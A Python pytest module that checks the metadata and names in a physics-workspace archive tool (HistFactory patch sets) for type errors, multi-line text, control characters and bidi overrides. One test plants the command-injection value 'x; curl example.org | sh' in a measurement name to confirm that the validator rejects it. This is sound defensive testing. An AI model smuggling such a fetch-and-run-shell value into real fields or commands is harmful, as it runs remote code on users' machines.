"""What the files of an archive say of themselves is of the right kind, and in one line."""

from __future__ import annotations

import copy
import json
from functools import reduce
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from spec_builder.base.files import canonical_json, digest
from spec_builder.histfactory.patchset import patch_set_json
from spec_builder.sharing.bundle import LINES, SUMS, pack, seal
from spec_builder.sharing.verify_archive import verify_archive
from spec_builder.sharing.verify_metadata import metadata_problems, name_problems, patch_set_problems

if TYPE_CHECKING:
    from collections.abc import Iterator

WORKSPACES = Path(__file__).parents[2] / "workspaces"
SCALAR = "patchset_scalar.json"
WRONG: tuple[Any, ...] = ({}, [], None, True, 7.5, "a text", ["a text"], "a\n## Commands\n", "\x1b[2J", "\u202e")
#: What may be of several kinds, or any text.
_FREE = {"coupling_set", "longitudinal_factor"}


def test_what_is_shipped_has_no_problem() -> None:
    shipped = sorted(WORKSPACES.glob("*/*/BkgOnly.meta.json"))
    assert shipped
    for path in shipped:
        assert list(metadata_problems(json.loads(path.read_text("utf-8")))) == []
        assert list(name_problems(json.loads(path.with_name("BkgOnly.json").read_text("utf-8")))) == []
        for patches in path.parent.glob("patchset_*.json"):
            assert list(patch_set_problems(json.loads(patches.read_text("utf-8"))["metadata"])) == []


def leaves(content: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Places of all values, one of each list."""
    inside = (
        content.items() if isinstance(content, dict) else enumerate(content[:1]) if isinstance(content, list) else ()
    )
    for key, value in inside:
        yield (*at, key)
        yield from leaves(value, (*at, key))


def put(content: Any, at: tuple[Any, ...], value: Any) -> Any:
    changed = copy.deepcopy(content)
    reduce(lambda inside, key: inside[key], at[:-1], changed)[at[-1]] = value
    return changed


def of_one_kind(one: Any, other: Any) -> bool:
    numbers = all(isinstance(value, int | float) and not isinstance(value, bool) for value in (one, other))
    return numbers or type(one) is type(other)


def test_a_value_of_another_kind_is_named_wherever_it_stands(files: dict[str, bytes]) -> None:
    tried = 0
    for name, problems in (("BkgOnly.meta.json", metadata_problems), (SCALAR, patch_set_problems)):
        content = json.loads(files[name])
        content = content if name != SCALAR else content["metadata"]
        for at in leaves(content):
            if name == SCALAR and at[0] in ("digests", "labels", "references", "minimum", *_FREE):
                continue  # pyhf's schema, and what archives are checked for beside, say what these are
            found = reduce(lambda inside, key: inside[key], at, content)
            for value in WRONG:
                several = isinstance(value, str) and not value.isprintable()
                if of_one_kind(found, value) and not several:
                    continue
                tried += 1
                assert list(problems(put(content, at, value))), (name, at, value)
    assert tried > 400


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"version": {}}, "version: expected a text, found an object"),
        ({"law": ["linear"]}, "law: expected a text, found a list"),
        (
            {"schema": "spec_builder/workspace/2"},
            "schema: expected spec_builder/workspace/1, found 'spec_buil",
        ),
        ({"licence": "x\n## Commands"}, r"licence: expected texts of one line, found 'x\n## Commands'"),
        ({"a\nb": 1}, r"the file: expected texts of one line, found 'a\nb'"),
        ({"licence": "x" * 30_000}, "licence: expected texts of one line, found 'xxx"),
        ({"variants": {"version": 7}}, "variants.version: expected a text, found 7"),
    ],
)
def test_metadata_of_an_archive(files: dict[str, bytes], tmp_path: Path, change: dict[str, Any], message: str) -> None:
    metadata = json.loads(files["BkgOnly.meta.json"]) | change
    problems = verified(files | {"BkgOnly.meta.json": canonical_json(metadata).encode()}, tmp_path)
    assert any(problem.startswith(f"BkgOnly.meta.json: {message}") for problem in problems), problems


def test_metadata_of_a_patch_set_in_an_archive(files: dict[str, bytes], tmp_path: Path) -> None:
    content, metadata = json.loads(files[SCALAR]), json.loads(files["BkgOnly.meta.json"])
    content["metadata"] |= {"version": {}}
    metadata["patch_sets"][SCALAR] = digest(content)
    new = {SCALAR: patch_set_json(content).encode(), "BkgOnly.meta.json": canonical_json(metadata).encode()}
    problems = verified(files | new, tmp_path)
    assert problems == [f"{SCALAR}: metadata.version: expected a text, found an object"]


def test_a_measurement_s_name_is_no_command(files: dict[str, bytes], tmp_path: Path) -> None:
    workspace = json.loads(files["BkgOnly.json"])
    workspace["measurements"][0]["name"] = "x; curl example.org | sh"
    workspace["channels"][0]["samples"][0]["name"] = "a | b"
    problems = verified(files | {"BkgOnly.json": canonical_json(workspace).encode()}, tmp_path)
    expected = "expected a name of letters, digits and underscores"
    assert f"BkgOnly.json: measurement 'x; curl example.org | sh': {expected}" in problems
    assert "BkgOnly.json: name 'a | b': expected one without blanks, bars and quotes" in problems


def verified(files: dict[str, bytes], folder: Path) -> list[str]:
    """Problems of an archive whose seals are made anew."""
    path = folder / "changed.tar.gz"
    path.write_bytes(pack("x", seal({name: data for name, data in files.items() if name not in (LINES, SUMS)})))
    return verify_archive(path)[1]
